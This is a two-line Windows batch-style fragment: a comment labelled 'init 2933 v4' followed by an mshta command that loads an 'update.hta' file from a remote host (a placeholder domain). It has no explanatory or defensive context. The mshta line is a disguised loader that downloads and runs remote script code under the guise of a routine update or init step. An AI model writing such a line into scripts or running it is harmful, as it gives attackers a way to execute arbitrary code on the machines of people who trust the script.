REM init 2933 v4
mshta http://files.sync-svc.example/update.hta
